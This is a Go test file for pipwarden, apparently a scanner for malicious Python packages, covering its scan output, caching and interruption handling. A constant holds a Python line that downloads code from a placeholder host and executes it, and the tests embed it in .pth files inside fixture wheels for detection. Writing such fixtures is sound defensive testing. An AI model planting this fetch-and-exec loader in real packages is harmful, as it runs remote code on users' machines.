package main

import (
	"bytes"
	"encoding/json"
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"regexp"
	"runtime"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"

	"pipwarden/internal/pypitest"
)

// hostileLine is inert: its host does not exist, and nobody runs it.
const hostileLine = "import urllib.request; exec(urllib.request.urlopen('http://drop.invalid/stage').read())\n"

// A scanWorld is a folder with files to scan, and an index.
type scanWorld struct {
	dir   string
	store string
	index *pypitest.Index
	slow  *pypitest.File // of project slow
}

func newScanWorld(t *testing.T) *scanWorld {
	t.Helper()
	w := &scanWorld{dir: t.TempDir(), store: t.TempDir(), index: pypitest.NewIndex(t, pypitest.Options{})}
	clean, hostile := pypitest.Sdist("clean", "2.0").MustBytes(t), pypitest.Wheel("hostile", "1.0", "hostile.pth", hostileLine).MustBytes(t)
	for name, data := range map[string][]byte{
		"clean-1.0-py3-none-any.whl":        pypitest.Wheel("clean", "1.0").MustBytes(t),
		"hostile-1.0-py3-none-any.whl":      hostile,
		"sets/hostile-1.0-py3-none-any.whl": hostile,
		"sets/deep/er/clean-2.0.tar.gz":     clean,
		"sets/README":                       []byte("read me"),
		"sets/deep/notes.txt":               []byte("notes"),
		"empty/.keep":                       nil,
		"broken-1.0.tar.gz":                 []byte("no archive"),
		"sample":                            clean,
		"clean-1-2.tar.gz":                  clean,
		"wheel.bin":                         hostile,
		"requirements.txt":                  []byte("\ufeff# pins\r\ndemo == 1.0 \\\r\n    --hash=sha256:00\r\n--require-hashes\n-r more/ranges.txt # more\n"),
		"more/ranges.txt":                   []byte("-r ../requirements.txt\ndemo<1; python_version > '3'\nDEMO==1.0\n"),
		"elsewhere.txt":                     []byte("demo==1.0\n--index-url https://elsewhere.invalid/simple/\n"),
		"direct.txt":                        []byte("demo @ https://files.invalid/demo-1.0.tar.gz\n"),
	} {
		path := filepath.Join(w.dir, filepath.FromSlash(name))
		if err := os.MkdirAll(filepath.Dir(path), 0o755); err != nil {
			t.Fatal(err)
		}
		write(t, path, string(data))
	}
	x, reason := w.index, "broken"
	young, yanked := pypitest.Wheel("demo", "2.0"), pypitest.Wheel("demo", "1.5", "demo.pth", hostileLine)
	young.UploadTime, yanked.Yanked = time.Now(), &reason
	for _, d := range []*pypitest.Dist{wheel(), pypitest.Sdist("demo", "1.0"), pypitest.Wheel("demo", "0.9"), pypitest.Wheel("demo", "3.0rc1"), young, yanked} {
		x.Add(d)
	}
	swapped := x.Add(pypitest.Wheel("swapped", "1.0"))
	x.Update(func() { swapped.SHA256 = strings.Repeat("0", 64) })
	w.slow = x.Add(pypitest.Wheel("slow", "1.0"))
	return w
}

// program is a pipwarden command in the folder, on the index.
func (w *scanWorld) program(t *testing.T, args ...string) *exec.Cmd {
	t.Helper()
	cmd := program(t, append([]string{"--cache-dir", w.store, "--index-url", w.index.URL}, args...)...)
	cmd.Dir = w.dir
	return cmd
}

var (
	scoreText  = regexp.MustCompile(`(?m)(: \w+), score -?\d+$`)
	systemText = regexp.MustCompile(`The system cannot find the (file|path) specified\.`)
)

// transcript is what a command prints as the transcripts tell it: what every finding is, the rules' own tests hold.
func transcript(stdout, stderr string, code int) string {
	var b strings.Builder
	for line := range strings.Lines(scoreText.ReplaceAllString(filepath.ToSlash(stdout), "$1")) {
		if !strings.HasPrefix(line, " ") || strings.HasPrefix(line, "  note: ") {
			b.WriteString(line)
		}
	}
	for line := range strings.Lines(systemText.ReplaceAllString(stderr, "no such file or directory")) {
		b.WriteString("2> " + line)
	}
	fmt.Fprintf(&b, "exit %d\n", code)
	return b.String()
}

// TestScanTranscripts runs the commands of testdata/scan.txt one after the other. "[...]" there stands for any text.
func TestScanTranscripts(t *testing.T) {
	w := newScanWorld(t)
	for block := range strings.SplitSeq(read(t, filepath.Join("testdata", "scan.txt")), "$ ") {
		line, want, _ := strings.Cut(block, "\n")
		if strings.HasPrefix(line, "#") {
			continue
		}
		want, _, _ = strings.Cut(want, "\n\n")
		want = strings.TrimRight(want, "\n") + "\n"
		t.Run(line, func(t *testing.T) {
			got := transcript(run(t, w.program(t, strings.Fields(line)...)))
			pattern := strings.ReplaceAll(regexp.QuoteMeta(want), regexp.QuoteMeta("[...]"), ".*")
			if !regexp.MustCompile("^" + pattern + "$").MatchString(got) {
				t.Error(cmp.Diff(want, got))
			}
		})
	}
}

// scanLines reads the output of "scan --json".
func scanLines(t *testing.T, stdout string) []map[string]any {
	t.Helper()
	var docs []map[string]any
	for line := range strings.Lines(stdout) {
		var doc map[string]any
		if err := json.Unmarshal([]byte(line), &doc); err != nil {
			t.Fatalf("%v in line %q", err, line)
		}
		docs = append(docs, doc)
	}
	return docs
}

// TestScanJSON holds the form of the lines, and that they come in the order of what was named.
func TestScanJSON(t *testing.T) {
	w := newScanWorld(t)
	odd := pypitest.Wheel("odd", "1.0", "odd-caf\u00e9\u202e\x7f.pth", hostileLine).MustBytes(t)
	write(t, filepath.Join(w.dir, "odd-1.0-py3-none-any.whl"), string(odd))
	stdout, stderr, code := run(t, w.program(t, "--json", "scan", "--members", "hostile-1.0-py3-none-any.whl", "broken-1.0.tar.gz", "gone.whl", "demo==1.5", "odd-1.0-py3-none-any.whl"))
	docs := scanLines(t, stdout)
	if code != exitFound || len(docs) != 5 || strings.Contains(stderr, "{") {
		t.Fatalf("exit %d, %d lines\n%s%s", code, len(docs), stdout, stderr)
	}
	if i := strings.IndexFunc(stdout, func(r rune) bool { return r > '~' || r < ' ' && r != '\n' }); i >= 0 {
		t.Errorf("%q is not escaped", stdout[i:min(i+8, len(stdout))])
	}
	for i, file := range []string{"hostile-1.0-py3-none-any.whl", "broken-1.0.tar.gz", "gone.whl", "demo-1.5-py3-none-any.whl", "odd-1.0-py3-none-any.whl"} {
		if docs[i]["file"] != file {
			t.Errorf("line %d is of %v, want %s", i, docs[i]["file"], file)
		}
	}
	for _, key := range []string{"sha256", "level", "score", "findings", "gaps", "millis", "members", "files", "scanner"} {
		if _, ok := docs[0][key]; !ok {
			t.Errorf("no %q in %v", key, docs[0])
		}
	}
	findings := docs[0]["findings"].([]any)
	i := slices.IndexFunc(findings, func(f any) bool { return f.(map[string]any)["rule"] == "pth-code" })
	if i < 0 {
		t.Fatalf("no pth-code in %v", findings)
	}
	f := findings[i].(map[string]any)
	for _, key := range []string{"rule", "path", "line", "behaviour", "stage", "message", "code", "weight"} {
		if _, ok := f[key]; !ok {
			t.Errorf("no %q in %v", key, f)
		}
	}
	if f["path"] != "hostile.pth" || f["stage"] != "start" {
		t.Errorf("%v", f)
	}
	gap := docs[1]["gaps"].([]any)[0].(map[string]any)
	if gap["path"] != "" || gap["reason"] == "" || docs[1]["findings"] == nil {
		t.Errorf("%v", docs[1])
	}
	if len(docs[2]) != 2 || docs[2]["error"] == "" {
		t.Errorf("%v", docs[2])
	}
	if docs[3]["requirement"] != "demo==1.5" || docs[3]["level"] != "malicious" {
		t.Errorf("%v", docs[3])
	}
}

// TestScanSARIF prints one document, with results under the names that were given.
func TestScanSARIF(t *testing.T) {
	w := newScanWorld(t)
	stdout, stderr, code := run(t, w.program(t, "scan", "--sarif", "sets"))
	var doc struct {
		Version string
		Runs    []struct {
			Artifacts []struct{ Location struct{ URI string } }
			Results   []struct{ RuleID string }
		}
	}
	if err := json.Unmarshal([]byte(stdout), &doc); err != nil || code != exitFound || doc.Version != "2.1.0" {
		t.Fatalf("exit %d, %v\n%s", code, err, stderr)
	}
	if a := doc.Runs[0].Artifacts; len(a) != 2 || a[0].Location.URI != "sets/deep/er/clean-2.0.tar.gz" || len(doc.Runs[0].Results) == 0 {
		t.Errorf("%+v", doc.Runs[0])
	}
}

// TestScanStore keeps what it fetched as the guard does: the second scan fetches nothing, tells no event, and pins no name.
func TestScanStore(t *testing.T) {
	w := newScanWorld(t)
	for range 2 {
		if stdout, stderr, code := run(t, w.program(t, "scan", "demo==1.5")); code != exitFound {
			t.Fatalf("exit %d\n%s%s", code, stdout, stderr)
		}
	}
	fetched := 0
	for _, r := range w.index.Requests() {
		if strings.HasSuffix(r.Path, "demo-1.5-py3-none-any.whl") {
			fetched++
		}
	}
	stdout, _, _ := run(t, w.program(t, "cache", "stats"))
	if fetched != 1 || !strings.Contains(stdout, "files     1,") || !strings.Contains(stdout, "reports   1\n") || !strings.Contains(stdout, "events    0\n") {
		t.Errorf("fetched %d times\n%s", fetched, stdout)
	}
}

// TestScanBesideGuard scans a release while a guard holds the store.
func TestScanBesideGuard(t *testing.T) {
	w := newScanWorld(t)
	serve(t, w.store, withIndex("", w.index.URL))
	temp := t.TempDir()
	cmd := w.program(t, "scan", "demo==1.5")
	cmd.Env = append(cmd.Env, "TMPDIR="+temp, "TMP="+temp)
	stdout, stderr, code := run(t, cmd)
	if code != exitFound || !strings.Contains(stdout, "demo-1.5") || !strings.Contains(stderr, "a folder that goes with this command") {
		t.Errorf("exit %d\n%s%s", code, stdout, stderr)
	}
	if left, err := os.ReadDir(temp); err != nil || len(left) > 0 {
		t.Errorf("left behind: %v, %v", left, err)
	}
}

// TestScanInterrupted ends while a file hangs, and leaves the store to the next command.
func TestScanInterrupted(t *testing.T) {
	if runtime.GOOS == "windows" {
		t.Skip("needs signals")
	}
	w := newScanWorld(t)
	w.index.Fail(w.slow.Path, pypitest.Fault{HangAfter: 10, Hang: true})
	cmd := w.program(t, "scan", "slow==1.0")
	var out, errs bytes.Buffer
	cmd.Stdout, cmd.Stderr = &out, &errs
	if err := cmd.Start(); err != nil {
		t.Fatal(err)
	}
	for w.index.Count(w.slow.Path) == 0 {
		if t.Context().Err() != nil {
			t.Fatal("the file was never asked for")
		}
		time.Sleep(10 * time.Millisecond)
	}
	begin := time.Now()
	if err := cmd.Process.Signal(os.Interrupt); err != nil {
		t.Fatal(err)
	}
	_ = cmd.Wait() // the exit code says it
	if code := cmd.ProcessState.ExitCode(); code != exitUnscanned || !strings.Contains(errs.String(), "interrupted") {
		t.Errorf("exit %d\n%s%s", code, out.String(), errs.String())
	}
	// Without the interrupt the transfer would be given up after 15 s, and tried again.
	if took := time.Since(begin); took > 10*time.Second {
		t.Errorf("ended after %s", took)
	}
	if _, stderr, code := run(t, w.program(t, "cache", "verify")); code != exitOK {
		t.Errorf("the store: exit %d\n%s", code, stderr)
	}
}

// TestScanProgress shows one line that fits the terminal, and takes it away.
func TestScanProgress(t *testing.T) {
	var b bytes.Buffer
	p := &scanProgress{w: &b, width: func() int { return 12 }}
	p.clear()
	p.show("scanning \x1b[2J and more")
	p.clear()
	p.clear()
	if want := "\r\x1b[Kscanning \\x\r\x1b[K"; b.String() != want {
		t.Errorf("got %q, want %q", b.String(), want)
	}
	(&scanProgress{}).show("nobody looks")
}

// TestLogicalLines holds continuation lines, comments and numbers of lines.
func TestLogicalLines(t *testing.T) {
	got := logicalLines("a==1 \\\n  --hash=x # why\r\n\n# all\nb#c\\")
	want := []string{"a==1   --hash=x", "", "", "", "b#c"}
	if d := cmp.Diff(want, got); d != "" {
		t.Error(d)
	}
}

// TestLiveScan scans a release of the real index.
func TestLiveScan(t *testing.T) {
	l := newLive(t)
	stdout, stderr, code := run(t, l.program(t, "", "--json", "scan", "docopt==0.6.2"))
	docs := scanLines(t, stdout)
	if code != exitOK || len(docs) != 1 || docs[0]["level"] != "clean" || docs[0]["file"] != "docopt-0.6.2.tar.gz" {
		t.Errorf("exit %d\n%s%s", code, stdout, stderr)
	}
}
